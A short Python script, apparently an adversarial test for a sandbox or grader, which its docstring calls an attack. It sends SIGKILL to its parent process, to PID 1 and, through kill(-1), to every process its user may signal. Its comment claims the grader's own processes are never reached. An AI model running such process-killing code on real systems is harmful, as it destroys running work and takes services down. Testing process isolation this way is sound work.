"""Attack, run as an unprivileged user: kill its parent and every process it may signal."""

import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)  # every process of its user: never the grader's

